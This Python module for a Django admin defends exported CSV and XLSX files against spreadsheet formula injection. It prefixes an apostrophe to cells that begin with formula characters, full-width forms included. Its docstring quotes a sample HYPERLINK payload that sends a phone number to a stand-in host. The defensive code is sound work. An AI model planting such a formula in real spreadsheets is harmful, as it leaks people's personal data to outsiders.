"""Spreadsheet files the admin writes (django-import-export): safe to open in Excel.

Every export goes through `FORMATS`. A text cell that a spreadsheet would read as a
formula (a name such as `=HYPERLINK("http://evil.example/?p="&E2,"详情")` would send
the phone number in E2 away) is written with a leading apostrophe; `restore` removes it
again when an exported file is imported back. CSV carries a BOM so Excel reads the
Chinese as UTF-8.
"""

from import_export.formats import base_formats

# What starts a formula in Excel, LibreOffice or WPS, and the full-width forms a
# Chinese input method types.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def neutralize(value):
    """`value`, or for text that would start a formula, the same text after a '."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore(text: str) -> str:
    """Undo `neutralize` on a cell read from an exported file."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def _neutralized(dataset):
    for i in range(dataset.height):
        dataset[i] = [neutralize(value) for value in dataset[i]]
    return dataset


class CSV(base_formats.CSV):
    CONTENT_TYPE = "text/csv; charset=utf-8"

    def export_data(self, dataset, **kwargs):
        return "\ufeff" + super().export_data(_neutralized(dataset), **kwargs)


class XLSX(base_formats.XLSX):
    def export_data(self, dataset, **kwargs):
        return super().export_data(_neutralized(dataset), **kwargs)


FORMATS = [XLSX, CSV]
